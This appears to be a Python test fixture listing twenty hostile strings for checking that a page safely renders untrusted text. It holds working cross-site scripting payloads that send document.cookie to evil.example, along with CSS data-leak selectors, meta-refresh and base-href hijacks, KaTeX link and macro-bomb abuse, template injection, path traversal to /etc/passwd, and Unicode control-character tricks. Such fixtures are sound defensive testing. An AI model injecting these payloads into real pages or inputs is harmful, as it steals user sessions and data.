"""Twenty texts that would do something in a page that took them for markup, style or a path."""

CALL = "window.pwned = 1; fetch('http://evil.example/' + document.cookie)"
TEXTS = (
    f"<script>{CALL}</script>",
    f'<img src=x onerror="{CALL}">',
    f'<svg onload="{CALL}"><animate onbegin="{CALL}" attributeName=x dur=1s></svg>',
    f'<a href="javascript:{CALL}">click</a>',
    "<a href='data:text/html,<script>parent.pwned=1</script>'>data link</a>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<style>@import 'http://evil.example/a.css'; body { background: url(http://evil.example/b) }</style>",
    "<style>input[value^='a'] { background: url(http://evil.example/leak?a) }</style>",
    "<link rel=stylesheet href=http://evil.example/c.css><base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example/><button autofocus onfocus='window.pwned=1'>ok</button></form>",
    "</pre></main><script>window.pwned=1</script><main><pre>",
    "$\\href{javascript:window.pwned=1}{x}$ and $\\url{http://evil.example/}$",
    "$\\includegraphics{http://evil.example/d.png}$ $\\htmlClass{brand}{x}$ $\\htmlStyle{position:fixed}{x}$",
    "$$\\def\\a{\\a\\a}\\a$$ and $\\rule{99999em}{99999em}$ $\\kern9999em x$",
    "```html\n<script>window.pwned=1</script>\n``` <think><img src=x onerror=window.pwned=1></think>",
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} <%= 1 %> __proto__",
    "../../../../etc/passwd file:///etc/passwd \\\\evil.example\\share %2e%2e%2f",
    "\u202e\u2066 right to left \u0000\u001b[31m \ud7ff \ufeff <\u200bscript>window.pwned=1</script>",
    "'\"><body onload=window.pwned=1><object data=http://evil.example/e.swf><embed src=http://evil.example/f>",
)
assert len(TEXTS) == 20
